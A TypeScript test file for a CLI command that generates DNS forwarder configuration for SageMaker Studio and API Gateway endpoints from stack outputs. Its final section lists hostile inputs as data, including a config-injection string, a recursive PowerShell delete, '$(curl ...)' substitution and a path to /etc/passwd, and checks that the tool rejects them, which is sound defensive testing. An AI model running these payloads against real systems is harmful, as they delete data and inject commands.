import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { runCommandLine } from '../../../src/cli/command-line.ts';
import { dnsCommand } from '../../../src/cli/dns-command.ts';
import { recordingIo } from '../../support/cli-io.ts';
import { cdkOutputs, describedStacks, foundationOutputs, serviceOutputs } from './stack-outputs-fixture.ts';

const FORMATS = ['bind', 'unbound', 'dnsmasq', 'windows', 'route53', 'table'];

async function dns(args: readonly string[], files: Readonly<Record<string, unknown>> = {}) {
  const texts = Object.entries(files).map(([path, file]) => [
    path,
    typeof file === 'string' ? file : JSON.stringify(file),
  ]);
  const io = recordingIo(Object.fromEntries(texts));
  const exitCode = await runCommandLine({ version: '1', commands: [dnsCommand] }, ['dns', ...args], io);
  return { exitCode, printed: io.printed(), complaints: io.complaints() };
}

const explicit = [
  '--region',
  'eu-central-1',
  '--api-id',
  'a1b2c3d4e5',
  '--forwarder',
  '10.0.0.10',
  '--forwarder',
  '10.0.1.10',
];

async function planOf(args: readonly string[], files: Readonly<Record<string, unknown>> = {}) {
  const { exitCode, printed, complaints } = await dns(['--json', ...args], files);
  expect({ exitCode, complaints }).toEqual({ exitCode: 0, complaints: '' });
  return JSON.parse(printed);
}

async function zonesOf(args: readonly string[], files: Readonly<Record<string, unknown>> = {}) {
  const { zones } = await planOf(args, files);
  return zones.map(({ name }: { name: string }) => name);
}

/** `where` of each fault. */
async function faultsOf(args: readonly string[], files: Readonly<Record<string, unknown>> = {}) {
  const { exitCode, printed, complaints } = await dns(['--json', ...args], files);
  expect({ exitCode, printed }).toEqual({ exitCode: 78, printed: '' });
  return [...complaints.matchAll(/^ {2}- (.+?): /gm)].map(([, where]) => where);
}

describe('studio-pass dns', () => {
  test('gives zones, forwarders and endpoints as data', async () => {
    expect(await planOf(['-o', 'outputs.json'], { 'outputs.json': cdkOutputs })).toMatchObject({
      region: 'eu-central-1',
      forwarders: [
        { address: '10.0.0.10', port: 53 },
        { address: '10.0.1.10', port: 53 },
      ],
      zones: [
        {
          name: 'a1b2c3d4e5.execute-api.eu-central-1.amazonaws.com',
          isOptional: false,
          endpointId: 'vpce-0aaaaaaaaaaaaaaa3',
        },
        { name: 'studio.eu-central-1.sagemaker.aws', isOptional: false, endpointId: 'vpce-0aaaaaaaaaaaaaaa2' },
        { name: 'api.sagemaker.eu-central-1.amazonaws.com', isOptional: true, endpointId: 'vpce-0aaaaaaaaaaaaaaa1' },
        { name: 'launch.corp.example.com', isOptional: false, endpointId: 'vpce-0aaaaaaaaaaaaaaa3' },
      ],
    });
  });

  test('reads the answer of describe-stacks like the file of the CDK', async () => {
    const described = await planOf(['-o', 'outputs.json'], { 'outputs.json': describedStacks(cdkOutputs) });
    expect(described).toEqual(await planOf(['-o', 'outputs.json'], { 'outputs.json': cdkOutputs }));
  });

  test('puts several files together, one of them from standard input', async () => {
    const files = {
      '-': describedStacks({ foundation: foundationOutputs }),
      'service.json': { service: serviceOutputs },
    };
    expect(await zonesOf(['-o', '-', '-o', 'service.json'], files)).toHaveLength(4);
  });

  test('takes a stack without outputs for one with none', async () => {
    const [network, service] = [{ StackName: 'network' }, describedStacks(cdkOutputs).Stacks].flat();
    const files = { 'a.json': { Stacks: [network, service, ...describedStacks(cdkOutputs).Stacks] } };
    expect(await zonesOf(['-o', 'a.json'], files)).toHaveLength(4);
  });

  test('prefers the command line to the outputs', async () => {
    const plan = await planOf(
      ['-o', 'a.json', '--api-id', 'zzzzzzzzzz', '--forwarder', '10.9.9.9', '--forwarder', '10.9.8.9:5353'],
      {
        'a.json': cdkOutputs,
      },
    );
    expect(plan.zones[0].name).toBe('zzzzzzzzzz.execute-api.eu-central-1.amazonaws.com');
    expect(plan.forwarders).toEqual([
      { address: '10.9.9.9', port: 53 },
      { address: '10.9.8.9', port: 5353 },
    ]);
  });

  test('forwards the one API, or every API of the Region if asked to', async () => {
    expect((await zonesOf(explicit))[0]).toBe('a1b2c3d4e5.execute-api.eu-central-1.amazonaws.com');
    expect((await zonesOf([...explicit, '--whole-zone']))[0]).toBe('execute-api.eu-central-1.amazonaws.com');
  });

  test('needs no API id for every API of the Region', async () => {
    const args = ['--region', 'eu-central-1', '--forwarder', '10.0.0.10', '--forwarder', '10.0.1.10', '--whole-zone'];
    expect(await zonesOf(args)).toHaveLength(3);
  });

  test('leaves the SageMaker API out if asked to', async () => {
    expect(await zonesOf([...explicit, '--no-sagemaker-api'])).toEqual([
      'a1b2c3d4e5.execute-api.eu-central-1.amazonaws.com',
      'studio.eu-central-1.sagemaker.aws',
    ]);
  });

  test('names a forwarder once that is given twice', async () => {
    const { forwarders } = await planOf([...explicit, '--forwarder', '10.0.0.10:53']);
    expect(forwarders).toHaveLength(2);
  });

  test('warns of a single forwarder, and prints all the same', async () => {
    const { exitCode, printed, complaints } = await dns([
      '-f',
      'bind',
      '--region',
      'eu-central-1',
      '--api-id',
      'a1b2c3d4e5',
      '--forwarder',
      '10.0.0.10',
    ]);
    expect(exitCode).toBe(0);
    expect(printed).toContain('forwarders { 10.0.0.10; };');
    expect(complaints).toContain('only one forwarder');
  });

  describe('in other partitions', () => {
    const inRegion = (region: string) => ['--region', region, ...explicit.slice(2)];

    test.each([
      ['cn-north-1', 'amazonaws.com.cn'],
      ['us-gov-west-1', 'amazonaws.com'],
    ])('wants to be told the zone of Studio in %s', async (region, suffix) => {
      expect(await faultsOf(inRegion(region))).toEqual(['Region']);
      const studioZone = `studio.${region}.sagemaker.example.org`;
      expect(await zonesOf([...inRegion(region), '--studio-zone', studioZone])).toEqual([
        `a1b2c3d4e5.execute-api.${region}.${suffix}`,
        studioZone,
        `api.sagemaker.${region}.${suffix}`,
      ]);
    });

    test.each([
      'amazonaws.com.cn',
      'com.cn',
      'cn-north-1.amazonaws.com.cn',
      'studio.example.org',
      'studio.cn-northwest-1.sagemaker.example.org',
      'xcn-north-1.sagemaker.example.org',
      'execute-api.cn-north-1.amazonaws.com.cn',
      'a1b2c3d4e5.execute-api.cn-north-1.amazonaws.com.cn',
      'other.execute-api.cn-north-1.amazonaws.com.cn',
      'api.sagemaker.cn-north-1.amazonaws.com.cn',
      'x.api.sagemaker.cn-north-1.amazonaws.com.cn',
    ])('refuses %s as the zone of Studio: it is that of others as well', async (zone) => {
      const args = [...inRegion('cn-north-1'), '--studio-zone', zone];
      expect(await faultsOf(args)).toEqual(['--studio-zone']);
      expect(await faultsOf([...args, '--no-sagemaker-api'])).toEqual(['--studio-zone']);
    });

    test.each(['us-iso-east-1', 'us-isob-east-1', 'eu-isoe-west-1', 'eusc-de-east-1'])('refuses %s', async (region) => {
      expect(await faultsOf([...inRegion(region), '--studio-zone', 'studio.example.org'])).toEqual(['Region']);
    });
  });

  describe('tells the faults of its input', () => {
    test('names everything that is missing, at once', async () => {
      expect(await faultsOf([])).toEqual(['Region', 'InboundResolverAddresses', 'ApiId']);
    });

    test('names what is missing and what is wrong in one go', async () => {
      const files = { 'a.json': { stack: { Region: 'Frankfurt', StudioEndpointId: 'none' } }, 'b.json': 'not JSON' };
      expect(await faultsOf(['-o', 'a.json', '-o', 'b.json', '-o', 'c.json'], files)).toEqual([
        'c.json',
        'b.json',
        'a.json stack.Region',
        'a.json stack.StudioEndpointId',
        'InboundResolverAddresses',
        'ApiId',
      ]);
    });

    test('refuses outputs of two deployments', async () => {
      const files = { 'a.json': cdkOutputs, 'b.json': { other: { ApiId: 'zzzzzzzzzz' } } };
      expect(await faultsOf(['-o', 'a.json', '-o', 'b.json'], files)).toEqual(['b.json other.ApiId']);
    });

    test('refuses a stack that has an output twice, with two values', async () => {
      const [stack] = describedStacks({ api: serviceOutputs }).Stacks;
      const twice = [...(stack?.Outputs ?? []), { OutputKey: 'ApiId', OutputValue: 'zzzzzzzzzz' }];
      const files = {
        'a.json': describedStacks({ foundation: foundationOutputs }),
        'b.json': { Stacks: [{ ...stack, Outputs: twice }] },
      };
      expect(await faultsOf(['-o', 'a.json', '-o', 'b.json'], files)).toEqual(['b.json api.ApiId']);
    });

    test.each([
      ['nothing', ''],
      ['a list', '[]'],
      ['null', 'null'],
      ['stacks that are none', '{"Stacks":[1]}'],
      ['outputs that are none', '{"Stacks":[{"StackName":"a","Outputs":{}}]}'],
      ['another kind of file', '{"version":"1"}'],
    ])('refuses a file that holds %s', async (_what, text) => {
      expect(await faultsOf([...explicit, '-o', 'a.json'], { 'a.json': text })).toEqual(['a.json']);
    });

    test('refuses an output that is no string', async () => {
      expect(await faultsOf([...explicit, '-o', 'a.json'], { 'a.json': { stack: { ApiId: 1 } } })).toEqual([
        'a.json stack.ApiId',
      ]);
    });

    test('refuses other ports where the format has none', async () => {
      const { exitCode, printed } = await dns(['-f', 'windows', ...explicit, '--forwarder', '10.0.2.10:5353']);
      expect({ exitCode, printed }).toEqual({ exitCode: 78, printed: '' });
    });

    test.each(['amazonaws.com', 'eu-central-1.amazonaws.com', 'x.studio.eu-central-1.sagemaker.aws', 'sagemaker.aws'])(
      'refuses %s as a custom domain name',
      async (name) => {
        expect(await faultsOf([...explicit, '--custom-domain', name])).toEqual(['--custom-domain']);
      },
    );
  });

  describe('is misused', () => {
    test.each([
      ['no format', []],
      ['an unknown format', ['--format', 'djbdns']],
      ['a format and --json', ['--format', 'bind', '--json']],
      ['an unknown option', ['--format', 'bind', '--frobnicate']],
      ['an option without its value', ['--format']],
      ['an argument too many', ['--format', 'bind', 'now']],
    ])('by %s, and ends with 2', async (_what, args) => {
      const { exitCode, printed } = await dns([...args, ...explicit]);
      expect({ exitCode, printed }).toEqual({ exitCode: 2, printed: '' });
    });
  });

  describe('keeps hostile values out of configuration', () => {
    const hostile = [
      '10.0.0.10; };\nzone "." { type forward; forwarders { 203.0.113.66; }; ',
      '10.0.0.10\n10.0.0.11',
      "10.0.0.10'; Remove-Item C:\\ -Recurse; '",
      '$(curl 203.0.113.66)',
      '`id`',
      '../../etc/passwd',
      'a"b',
      'a/b',
      'a#b',
      'a b',
      'a\u0000b',
      'a\u001b[2Jb',
      'xn--\u{1f4a5}.example.com',
      '',
      ' ',
      '.',
      '*',
      '0.0.0.0',
      '255.255.255.255',
      '010.0.0.1',
      '10.0.0.10:0',
      '10.0.0.10:65536',
      '::1',
    ];
    const members = ['Region', 'InboundResolverAddresses', 'ApiId', 'CustomDomain', 'StudioEndpointId'];
    const cases = members.flatMap((member) => hostile.map((value) => [member, value] as const));

    test.each(cases)('refuses %s = %j without repeating it', async (member, value) => {
      const files = { 'a.json': { stack: { ...foundationOutputs, ...serviceOutputs, [member]: value } } };
      const { exitCode, printed, complaints } = await dns(['-f', 'bind', '-o', 'a.json'], files);
      expect({ exitCode, printed }).toEqual({ exitCode: 78, printed: '' });
      expect(complaints).toContain(`a.json stack.${member}: `);
      expect(complaints).not.toContain('\u001b');
    });

    test('does not show the name of a hostile stack', async () => {
      const { complaints } = await dns(['-f', 'bind', '-o', 'a.json'], { 'a.json': { '\u001b[2J': { ApiId: '!' } } });
      expect(complaints).toContain('a.json (a stack).ApiId: ');
      expect(complaints).not.toContain('\u001b');
    });

    test('prints nothing but known characters, whatever it is given', async () => {
      const value = fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.constantFrom('eu-central-1', '10.0.0.10,10.0.1.10', 'a1b2c3d4e5', 'launch.corp.example.com'),
      );
      const outputs = fc.record({ Region: value, InboundResolverAddresses: value, ApiId: value, CustomDomain: value });
      await fc.assert(
        fc.asyncProperty(outputs, fc.constantFrom(...FORMATS), async (given, format) => {
          const files = {
            'a.json': { stack: { ...foundationOutputs, ...serviceOutputs } },
            'b.json': { stack: given },
          };
          const { exitCode, printed } = await dns(['-f', format, '-o', 'b.json'], files);
          const isPlain = Object.values(given).every((text) => /^[a-z0-9.,\- ]+$/.test(text));
          expect(exitCode === 78 || isPlain).toBe(true);
          expect(exitCode === 78).toBe(printed === '');
        }),
      );
    });
  });
});
